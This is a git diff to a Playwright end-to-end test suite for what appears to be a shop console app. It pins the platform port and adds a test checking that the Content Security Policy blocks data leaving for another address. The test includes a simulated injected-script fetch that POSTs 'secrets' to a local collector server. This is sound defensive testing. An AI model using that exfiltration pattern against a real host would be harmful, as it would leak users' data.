@@ -5,6 +5,8 @@
  * poke, without a reload.
  */
 import { randomUUID } from 'node:crypto';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { expect, test, type Browser, type Page } from '@playwright/test';
 import { PROTOCOL_VERSION, syncPaths } from '../domain/sync/protocol';
 import { sampleVendorProfile } from '../domain/test-support/vendor-profile';
@@ -58,7 +60,11 @@ async function seedDemoProfile(url: string): Promise<void> {
 }
 
 test.beforeAll(async () => {
-  platform = await startPlatform({ port: 0, logger: false });
+  // The browser build's CSP reaches this one platform address (scripts/e2e.mjs builds it so).
+  platform = await startPlatform({
+    port: Number(process.env.E2E_PLATFORM_PORT ?? 4319),
+    logger: false,
+  });
   await seedDemo(platform.db);
   await seedDemoProfile(platform.url);
 });
@@ -233,4 +239,38 @@ test('two desktops give two items one SKU offline: the later is on both desktops
     .filter({ hasText: '冰镇绿豆沙' });
   await expect(kitchenItem).toBeVisible({ timeout: 15_000 });
   await expect(kitchenItem).not.toContainText('YP-9');
+});
+
+test('the browser console sends nothing to an address other than its platform', async ({
+  browser,
+}) => {
+  let received = 0;
+  const collector = createServer((_request, response) => {
+    received += 1;
+    response.end('ok');
+  });
+  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
+  const url = `http://127.0.0.1:${(collector.address() as AddressInfo).port}/collect`;
+  try {
+    const page = await desktopSignedIn(browser, '前台电脑');
+    // What an injected script would try: post the shop's data somewhere else.
+    const blocked = await page.evaluate(
+      (target) =>
+        new Promise<string>((resolve) => {
+          document.addEventListener(
+            'securitypolicyviolation',
+            (event) => resolve(event.blockedURI),
+            {
+              once: true,
+            },
+          );
+          fetch(target, { method: 'POST', body: 'secrets' }).catch(() => undefined);
+        }),
+      url,
+    );
+    expect(blocked).toContain(url.replace('/collect', ''));
+    expect(received).toBe(0);
+  } finally {
+    collector.close();
+  }
 });
